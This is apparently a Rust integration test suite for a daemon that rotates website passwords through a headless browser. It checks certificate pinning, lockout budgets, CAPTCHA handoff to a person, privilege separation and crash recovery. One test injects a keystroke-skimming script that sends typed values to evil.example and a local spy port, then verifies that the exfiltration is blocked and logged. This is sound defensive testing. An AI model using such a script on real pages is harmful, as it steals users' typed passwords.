//! Web devices: a browser changes a password, and what goes wrong on the way ends in the right state.
//!
//! Each rotation starts two browsers; `BROWSER_KILLS` says how often daemon and helper are killed in the midst of one (2).

use std::collections::BTreeSet;
use std::net::TcpListener;
use std::os::fd::OwnedFd;
use std::os::unix::fs::PermissionsExt;
use std::os::unix::net::UnixListener;
use std::path::PathBuf;
use std::process::{Child, Command, Stdio};
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::Duration;

use serde_json::{Value, json};

use crate::lab::{Daemon, Place, wait_for};
use crate::monitoring::{metrics, value};
use crate::person::{Person, link_of};
use crate::site::{FIRST, TEMPLATE, Web, rows};

/// An application, and a daemon's place with its account.
fn place(more: &str) -> (Web, Place) {
    let web = Web::start();
    let place = Place::new("");
    place.configure(&web.section(place.folder.path(), more));
    std::fs::write(place.path("own/site.template"), TEMPLATE).unwrap();
    (web, place)
}

fn started(place: &Place) -> Daemon<'_> {
    let daemon = place.daemon();
    place.must(&["import", "-"], &rows());
    daemon
}

/// Everything that the last attempt is on record with.
fn history(place: &Place) -> String {
    place.json(&["history", "wiki/alice"]).0["attempts"].to_string()
}

/// The processes that come of one, as far down as they go (proc_pid_stat(5)).
fn descendants(of: u32) -> BTreeSet<u32> {
    let entries = std::fs::read_dir("/proc").unwrap().flatten();
    let pids = entries.filter_map(|entry| entry.file_name().to_str()?.parse::<u32>().ok());
    let parent = |pid: u32| {
        let stat = std::fs::read_to_string(format!("/proc/{pid}/stat")).ok()?;
        stat.rsplit_once(')')?.1.split_whitespace().nth(1)?.parse::<u32>().ok()
    };
    let parents: Vec<(u32, u32)> = pids.filter_map(|pid| Some((pid, parent(pid)?))).collect();
    let mut found = BTreeSet::from([of]);
    while let Some((pid, _)) = parents.iter().find(|(pid, parent)| found.contains(parent) && !found.contains(pid)) {
        found.insert(*pid);
    }
    found.remove(&of);
    found
}

/// Waits until processes are gone.
fn all_gone(pids: &BTreeSet<u32>) {
    let is_there = |pid: &u32| {
        let stat = std::fs::read_to_string(format!("/proc/{pid}/stat"));
        stat.is_ok_and(|stat| !stat.contains(") Z "))
    };
    wait_for("every process of the browser is gone", || (!pids.iter().any(is_there)).then_some(()));
}

/// Ports of the host on which somebody listens (proc_net_tcp(5)).
fn listening() -> BTreeSet<u16> {
    let text = std::fs::read_to_string("/proc/net/tcp").unwrap();
    let sockets = text.lines().skip(1).map(|line| line.split_whitespace().collect::<Vec<_>>());
    let open = sockets.filter(|fields| fields[3] == "0A");
    open.map(|fields| u16::from_str_radix(fields[1].split(':').nth(1).unwrap(), 16).unwrap()).collect()
}

#[test]
fn a_browser_changes_a_password_and_a_second_profile_proves_it() {
    let (web, place) = place("");
    let daemon = started(&place);
    let (outcome, detail, exit) = place.rotate("wiki/alice");
    assert_eq!((outcome.as_str(), exit), ("done", 0), "{detail}: {}", place.log());
    let password = place.password("wiki/alice");
    assert_ne!(password, FIRST);
    let site = web.site();
    assert_eq!((site.password.as_str(), site.changes, site.logins, site.replayed), (password.as_str(), 1, 2, false));
    drop(site);
    assert!(!place.log().contains(&password) && !place.log().contains(FIRST), "a password is in the log");
    daemon.stop();
}

#[test]
fn a_page_that_sends_what_is_typed_to_another_host_reaches_nobody_and_is_told_of() {
    let spy = TcpListener::bind(("127.0.0.1", 0)).unwrap();
    let port = spy.local_addr().unwrap().port();
    let heard = Arc::new(AtomicUsize::new(0));
    let counted = heard.clone();
    std::thread::spawn(move || {
        for _ in spy.incoming().flatten() {
            counted.fetch_add(1, Ordering::SeqCst);
        }
    });
    let (web, place) = place("");
    web.site().extra = format!(
        "<script>document.addEventListener('input', e => {{ for (const to of ['http://127.0.0.1:{port}/', 'https://evil.example/', 'wss://evil.example:8443/']) {{ if (to.startsWith('ws')) new WebSocket(to); else fetch(to + '?' + e.target.value, {{ mode: 'no-cors' }}).catch(() => 0); new Image().src = to + e.target.value; }} }});</script>"
    );
    let daemon = started(&place);
    let (outcome, detail, _) = place.rotate("wiki/alice");
    assert_eq!(outcome, "done", "{detail}");
    assert_eq!(heard.load(Ordering::SeqCst), 0, "somebody heard what was typed");
    let told = history(&place);
    for host in [format!("127.0.0.1:{port}"), "evil.example:443".into(), "evil.example:8443".into()] {
        assert!(told.contains(&format!("the page tried to reach {host}")), "{host}: {told}");
    }
    daemon.stop();
}

#[test]
fn a_certificate_that_is_not_trusted_ends_the_attempt_before_anything_is_asked_for() {
    let (web, place) = place("");
    let section = web.section(place.folder.path(), "").replace("ca_file = \"authority.pem\"\n", "");
    place.configure(&section);
    let daemon = started(&place);
    let (outcome, detail, exit) = place.rotate("wiki/alice");
    assert_eq!((outcome.as_str(), exit), ("failed", 4), "{detail}");
    assert!(detail.contains("is not trusted") && detail.contains("tls_sha256"), "{detail}");
    assert!(web.site().asked.is_empty(), "{:?}", web.site().asked);
    let (log, _) = place.json(&["audit", "tail", "-n", "20"]);
    assert!(log.to_string().contains("host_key.mismatch"), "{log}");
    // Another certificate than the pinned one is no better, and the right one is good without any authority.
    place.configure(&section.replace("template =", &format!("tls_sha256 = [\"{}\"]\ntemplate =", "0".repeat(64))));
    daemon.signal("HUP");
    wait_for("another certificate than the pinned one", || {
        place.rotate("wiki/alice").1.contains("another one than tls_sha256 has").then_some(())
    });
    place.configure(&section.replace("template =", &format!("tls_sha256 = [\"{}\"]\ntemplate =", web.fingerprint)));
    daemon.signal("HUP");
    wait_for("the pinned certificate", || (place.json(&["verify", "wiki/alice"]).1 == 0).then_some(()));
    daemon.stop();
}

#[test]
fn each_connection_of_the_browser_itself_has_to_show_the_pinned_certificate() {
    let (web, place) = place("");
    // The daemon's own handshake is the first one. What comes after it has the same key, and the same authority.
    web.site().other_certificate_from = Some(1);
    let section = web.section(place.folder.path(), &format!("tls_sha256 = [\"{}\"]", web.fingerprint));
    place.configure(&section.replace("ca_file = \"authority.pem\"\n", ""));
    let daemon = started(&place);
    let (outcome, detail, exit) = place.rotate("wiki/alice");
    assert_eq!((outcome.as_str(), exit), ("failed", 4), "{detail}");
    assert!(detail.contains("another one than tls_sha256 has"), "{detail}");
    assert!(web.site().asked.is_empty(), "{:?}", web.site().asked);
    let (log, _) = place.json(&["audit", "tail", "-n", "20"]);
    assert!(log.to_string().contains("host_key.mismatch"), "{log}");
    daemon.stop();
}

#[test]
fn a_page_that_changed_fails_before_the_commit_point_and_tells_what_is_there_instead() {
    let (web, place) = place("");
    web.site().renamed = true;
    let daemon = started(&place);
    let (outcome, detail, exit) = place.rotate("wiki/alice");
    assert_eq!((outcome.as_str(), exit), ("failed", 4), "{detail}");
    assert!(detail.contains("new_password") && detail.contains("Change password"), "{detail}");
    assert_eq!((place.state("wiki/alice").as_str(), place.changes("wiki/alice"), web.site().changes), ("idle", 0, 0));
    let file = place.path("page.jpg");
    place.must(&["history", "wiki/alice", "--screenshot", file.to_str().unwrap()], "");
    assert!(std::fs::read(&file).unwrap().starts_with(&[0xff, 0xd8, 0xff]), "no JPEG");
    daemon.stop();
}

#[test]
fn what_becomes_of_a_change_that_went_wrong_is_found_out_by_login() {
    let (web, place) = place("");
    web.site().strict = true;
    let daemon = started(&place);
    let (outcome, detail, exit) = place.rotate("wiki/alice");
    assert_eq!((outcome.as_str(), exit), ("failed", 4), "{detail}");
    assert_eq!((place.state("wiki/alice").as_str(), place.password("wiki/alice").as_str()), ("idle", FIRST));
    // The page takes the new password and never answers.
    (web.site().strict, web.site().hangs) = (false, true);
    let (outcome, detail, _) = place.rotate("wiki/alice");
    assert_eq!(outcome, "done", "{detail}");
    assert_eq!(web.site().password, place.password("wiki/alice"));
    assert!(!web.site().replayed, "a code was sent twice");
    daemon.stop();
}

#[test]
fn a_wrong_password_is_refused_once_or_twice_and_a_browser_is_left_behind_by_nobody() {
    let (web, place) = place("");
    web.site().password = "Somebody-Changed-It-7".into();
    let daemon = started(&place);
    let (outcome, detail, _) = place.rotate("wiki/alice");
    assert_ne!(outcome, "done", "{detail}");
    assert!(detail.contains("refused"), "{detail}");
    assert!((1..=2).contains(&web.site().refused), "{}", web.site().refused);
    daemon.stop();
}

/// Logins that count against lockout budgets.
fn budget_used(place: &Place) -> u32 {
    let used = value(&metrics(place, "/metrics", "text/plain"), "rotord_refused_logins").unwrap();
    format!("{used}").parse().unwrap()
}

#[test]
fn a_login_that_was_taken_costs_nothing_of_the_budget_and_one_that_was_refused_costs_one() {
    let (web, place) = place("");
    // Behind the login the page of the change is another one. The budget is two logins an hour.
    web.site().renamed = true;
    let daemon = started(&place);
    for _ in 0..3 {
        let (outcome, detail, _) = place.rotate("wiki/alice");
        assert!(outcome == "failed" && detail.contains("new_password"), "{detail}");
    }
    assert_eq!(web.site().logins, 3);
    // What became of a change is found out by a login.
    (web.site().renamed, web.site().hangs) = (false, true);
    let (outcome, detail, _) = place.rotate("wiki/alice");
    assert_eq!(outcome, "done", "{detail}");
    assert_eq!(web.site().logins, 5);
    web.site().password = "Somebody-Changed-It-7".into();
    assert_ne!(place.json(&["verify", "wiki/alice"]).1, 0);
    let refused = web.site().refused;
    assert!(refused > 0);
    // The metrics are made of what was looked up some seconds ago.
    wait_for("each refused login on record, and no other", || (budget_used(&place) == refused).then_some(()));
    assert_eq!(web.site().logins, 5);
    daemon.stop();
}

#[test]
fn a_run_that_waits_for_a_person_is_shown_as_such_and_fails_where_nobody_comes() {
    let (web, place) = place("park_for = \"5s\"\n");
    web.site().puzzle = true;
    let before = listening();
    let daemon = started(&place);
    place.must(&["rotate", "wiki/alice", "--no-wait"], "");
    wait_for("a person is asked for", || {
        place.json(&["status"]).0["accounts"][0]["waiting"]
            .as_str()
            .map(|text| assert!(text.contains("reCAPTCHA"), "{text}"))
    });
    // The browser is at work now: nobody else finds a port of it, or a socket.
    let ours = [web.port];
    let new: Vec<u16> = listening().difference(&before).copied().filter(|port| !ours.contains(port)).collect();
    assert!(!new.contains(&9515) && !new.contains(&3128), "{new:?}");
    let sockets = std::fs::read_to_string("/proc/net/unix").unwrap();
    assert!(!sockets.contains("rotord-browser"), "{sockets}");
    let (log, _) = place.json(&["audit", "tail", "-n", "20"]);
    assert!(log.to_string().contains("run.waiting"), "{log}");
    let detail =
        wait_for("nobody comes", || place.json(&["status"]).0["accounts"][0]["last_error"].as_str().map(str::to_owned));
    assert!(detail.contains("person"), "{detail}");
    assert_eq!((place.state("wiki/alice").as_str(), web.site().changes), ("idle", 0));
    assert_eq!(
        of_persons(&place),
        [("run.waited", "root", "nobody did it within 5 s; nobody looked into the browser")].map(owned)
    );
    daemon.stop();
}

/// What is on record of persons at parked runs: event, who, detail.
fn of_persons(place: &Place) -> Vec<(String, String, String)> {
    let (log, _) = place.json(&["audit", "tail", "-n", "100"]);
    let text = |value: &Value| value.as_str().unwrap_or_default().to_owned();
    let events = log["events"].as_array().unwrap().iter();
    let ours = events.filter(|event| ["view.start", "run.waited"].contains(&event["event"].as_str().unwrap()));
    let told = ours.map(|event| {
        assert!(event["account"] == "wiki/alice" && event["attempt"].is_string(), "{event}");
        (text(&event["event"]), text(&event["actor"]["name"]), text(&event["detail"]))
    });
    told.collect()
}

fn owned((event, who, detail): (&str, &str, &str)) -> (String, String, String) {
    (event.to_owned(), who.to_owned(), detail.to_owned())
}

#[test]
fn a_person_solves_a_puzzle_in_the_live_view_and_the_run_goes_on_by_itself() {
    let (web, place) = place("park_for = \"60s\"\n");
    web.site().puzzle = true;
    let daemon = started(&place);
    place.must(&["rotate", "wiki/alice", "--no-wait"], "");
    wait_for("a person is asked for", || place.json(&["status"]).0["accounts"][0]["waiting"].as_str().map(|_| ()));
    let mut command = Command::new(env!("CARGO_BIN_EXE_rotorctl"));
    command.args(["browser", "wiki/alice"]).env("ROTORD_SOCKET", place.path("socket"));
    let mut view = command.stdout(Stdio::piped()).spawn().unwrap();
    let link = link_of(&mut view);
    let person = Person::start();
    person.post("url", json!({ "url": link }));
    let width = json!({ "script": "return document.getElementById('screen').naturalWidth", "args": [] });
    wait_for("the screen is shown", || (person.post("execute/sync", width.clone()).as_u64()? > 600).then_some(()));
    // Tab to the box, check it; Tab to the button, press it: tab, space and enter of WebDriver.
    let move_there = json!({ "script": "document.getElementById('screen').focus(); return true", "args": [] });
    person.post("execute/sync", move_there);
    person.press(&["\u{e004}", " ", "\u{e004}", "\u{e007}"]);
    wait_for("the puzzle is solved", || web.site().solved.then_some(()));
    wait_for("the view tells that the run goes on", || person.text().contains("The run goes on").then_some(()));
    assert!(view.wait().unwrap().success());
    // The link was good once.
    let second = Command::new("curl").args(["-sS", "-o", "/dev/null", "-w", "%{http_code}", &link]).output().unwrap();
    assert_ne!(String::from_utf8_lossy(&second.stdout).trim(), "200");
    wait_for("the rotation is done", || (place.state("wiki/alice") == "idle" && web.site().changes == 1).then_some(()));
    assert_eq!(web.site().password, place.password("wiki/alice"));
    let done = "the page that was waited for is there; root looked into the browser";
    assert_eq!(of_persons(&place), [("view.start", "root", ""), ("run.waited", "root", done)].map(owned));
    daemon.stop();
}

#[test]
fn nobody_is_shown_or_passes_on_anything_without_being_on_record() {
    let (web, place) = place("park_for = \"60s\"\n");
    web.site().puzzle = true;
    let daemon = started(&place);
    place.must(&["rotate", "wiki/alice", "--no-wait"], "");
    wait_for("a person is asked for", || place.json(&["status"]).0["accounts"][0]["waiting"].as_str().map(|_| ()));
    let api = |method: &str, path: &str, body: &str| {
        let mut curl = Command::new("curl");
        curl.args([
            "-sS",
            "-o",
            "/dev/null",
            "-w",
            "%{http_code}",
            "--unix-socket",
            place.path("socket").to_str().unwrap(),
            "-X",
            method,
        ]);
        if !body.is_empty() {
            curl.args(["-H", "content-type: application/json", "-d", body]);
        }
        let output = curl.arg(format!("http://rotord/v1/browser{path}")).output().unwrap();
        String::from_utf8_lossy(&output.stdout).into_owned()
    };
    // To ask what the person is to do is not to look.
    assert_eq!(api("GET", "?account=wiki/alice", ""), "200");
    assert_eq!(of_persons(&place), []);
    let seen = |status: &str| {
        assert_eq!(api("GET", "/picture?account=wiki/alice", ""), status);
        let key = r#"{"account":"wiki/alice","input":{"key":{"key":"a","code":"KeyA","number":65,"down":true}}}"#;
        assert_eq!(api("POST", "/input", key), status);
    };
    seen("200");
    seen("200");
    assert_eq!(of_persons(&place), [("view.start", "root", "")].map(owned));
    assert_eq!(api("POST", "/continue", r#"{"account":"wiki/alice"}"#), "200");
    let over = wait_for("the run goes on", || of_persons(&place).into_iter().find(|event| event.0 == "run.waited"));
    assert_eq!(over.2, "root said that it is done; root looked into the browser");
    daemon.stop();
}

/// The helper as a service: a process of another user behind a socket.
struct Service(Child, PathBuf);

impl Service {
    fn start(place: &Place) -> Self {
        let path = place.path("browser.sock");
        let listener = UnixListener::bind(&path).unwrap();
        std::fs::set_permissions(&path, PermissionsExt::from_mode(0o600)).unwrap();
        let mut command = Command::new("setpriv");
        command.args(["--reuid=61190", "--regid=61190", "--clear-groups", "--no-new-privs", "--bounding-set=-all"]);
        command.args(["--", env!("CARGO_BIN_EXE_rotord"), "browser"]).stdin(Stdio::from(OwnedFd::from(listener)));
        Self(command.spawn().unwrap(), path)
    }
}

impl Drop for Service {
    fn drop(&mut self) {
        self.0.kill().unwrap();
        self.0.wait().unwrap();
    }
}

#[test]
fn a_service_without_any_privilege_gives_the_daemon_its_browsers_and_nobody_else() {
    let (_web, place) = place("");
    let service = Service::start(&place);
    let config = std::fs::read_to_string(place.path("rotord.toml")).unwrap();
    let config = config.replace("[vault]", &format!("browser_socket = \"{}\"\n[vault]", service.1.display()));
    std::fs::write(place.path("rotord.toml"), config).unwrap();
    let daemon = started(&place);
    let (value, exit) = place.json(&["verify", "wiki/alice"]);
    assert_eq!(exit, 0, "{value}");
    // Who is neither root nor the socket's owner is hung up on, even where the file's mode lets him connect.
    std::fs::set_permissions(&service.1, PermissionsExt::from_mode(0o666)).unwrap();
    std::fs::set_permissions(place.folder.path(), PermissionsExt::from_mode(0o755)).unwrap();
    let talk = format!(
        "import socket; s = socket.socket(socket.AF_UNIX); s.connect('{}'); s.settimeout(20); print(len(s.recv(1)))",
        service.1.display()
    );
    let mut stranger = Command::new("setpriv");
    stranger.args(["--reuid=65534", "--regid=65534", "--clear-groups", "--", "/usr/bin/python3", "-c", &talk]);
    let output = stranger.output().unwrap();
    assert_eq!(String::from_utf8_lossy(&output.stdout).trim(), "0", "{}", String::from_utf8_lossy(&output.stderr));
    daemon.stop();
}

#[test]
fn a_page_whose_process_dies_ends_the_run_and_the_next_one_works() {
    let (web, place) = place("park_for = \"60s\"\n");
    web.site().puzzle = true;
    let daemon = started(&place);
    place.must(&["rotate", "wiki/alice", "--no-wait"], "");
    wait_for("a person is asked for", || place.json(&["status"]).0["accounts"][0]["waiting"].as_str().map(|_| ()));
    // As the kernel does it where memory runs out (Chromium offers it the processes of its pages first).
    let browsers = descendants(daemon.pid());
    let is_page = |pid: &&u32| {
        std::fs::read_to_string(format!("/proc/{pid}/cmdline")).is_ok_and(|line| line.contains("--type=renderer"))
    };
    let pages: Vec<u32> = browsers.iter().filter(is_page).copied().collect();
    assert!(!pages.is_empty());
    for pid in pages {
        drop(Command::new("kill").args(["-KILL", &pid.to_string()]).status());
    }
    let detail =
        wait_for("the run ends", || place.json(&["status"]).0["accounts"][0]["last_error"].as_str().map(str::to_owned));
    assert!(detail.contains("crashed"), "{detail}");
    assert_eq!((place.state("wiki/alice").as_str(), web.site().changes), ("idle", 0));
    all_gone(&browsers);
    web.site().puzzle = false;
    let (outcome, detail, exit) = place.rotate("wiki/alice");
    assert_eq!((outcome.as_str(), exit), ("done", 0), "{detail}");
    daemon.stop();
}

#[test]
fn daemon_and_browser_are_killed_in_the_midst_of_a_change_and_nothing_is_lost_or_left_behind() {
    let kills: u64 = std::env::var("BROWSER_KILLS").map_or(2, |kills| kills.parse().unwrap());
    for round in 0..kills {
        // A login that was killed counts as a refused one: with the usual budget what is in doubt would wait for an hour.
        let (web, place) = place("[policy.default]\nfailed_logins_per_hour = 10\n");
        let daemon = started(&place);
        place.must(&["rotate", "wiki/alice", "--no-wait"], "");
        // Each round at another moment: a login takes some 2 s, a change some 3 s more.
        std::thread::sleep(Duration::from_millis(1500 + 6500 * round / kills.max(1)));
        let browsers = descendants(daemon.pid());
        if round % 2 == 1 {
            // The first of the browser's processes alone: the others go with it.
            if let Some(first) = browsers.first() {
                let _ = Command::new("kill").args(["-KILL", &first.to_string()]).status().unwrap();
            }
            all_gone(&browsers);
        }
        daemon.kill();
        all_gone(&browsers);
        let daemon = place.daemon();
        wait_for("the account is at rest", || {
            let state = place.state("wiki/alice");
            assert_ne!(state, "quarantined", "{}", history(&place));
            (state == "idle").then_some(())
        });
        let stored = place.password("wiki/alice");
        let site = web.site();
        assert_eq!(site.password, stored, "round {round}: a password is lost");
        assert!(!site.replayed && site.changes <= 1, "round {round}");
        drop(site);
        place.each_start_has_its_end("after a kill");
        daemon.stop();
    }
}
